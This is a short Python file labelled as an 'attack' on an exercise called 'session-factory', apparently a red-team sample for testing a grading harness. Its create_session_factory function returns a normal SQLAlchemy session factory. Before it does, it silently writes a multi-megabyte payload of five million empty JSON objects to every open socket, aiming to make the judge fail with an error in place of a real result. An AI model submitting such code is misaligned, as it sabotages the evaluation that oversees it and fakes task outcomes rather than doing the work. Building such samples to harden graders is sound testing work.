# /// attack
# exercise = "session-factory"
# trick = "millions of empty objects on the line to the judge, which are small as text and large as objects"
# outcome = ["error"]
# says = "something else than the harness"
# ///

import os
import stat
import struct

from sqlalchemy.ext.asyncio import async_sessionmaker


def create_session_factory(engine):
    body = b"[" + b"{}," * 5_000_000 + b"{}]"
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack("!I", len(body)) + body)
        except OSError:
            pass
    return async_sessionmaker(engine, expire_on_commit=False)
